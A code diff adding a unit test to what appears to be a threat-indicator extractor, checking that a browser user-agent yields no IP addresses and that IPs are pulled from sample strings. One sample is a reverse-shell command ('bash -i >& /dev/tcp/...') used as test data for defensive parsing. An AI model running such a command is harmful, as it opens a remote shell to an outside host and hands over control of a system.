@@ -123,3 +123,12 @@ def test_paths_and_keys_are_asked_for_apart() -> None:
         Observable("file", "/tmp/x"),
         Observable("file", "/etc/cron.d/y"),
     ]
+
+
+def test_the_version_of_a_program_is_no_address() -> None:
+    agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
+    assert extract([agent]) == []
+    addresses = ["bash -i >& /dev/tcp/45.33.32.156/4444", "ping 45.33.32.157", "http://45.33.32.158/a"]
+    assert [item.value for item in extract(addresses) if item.type == "ip"] == [
+        f"45.33.32.{n}" for n in (156, 157, 158)
+    ]
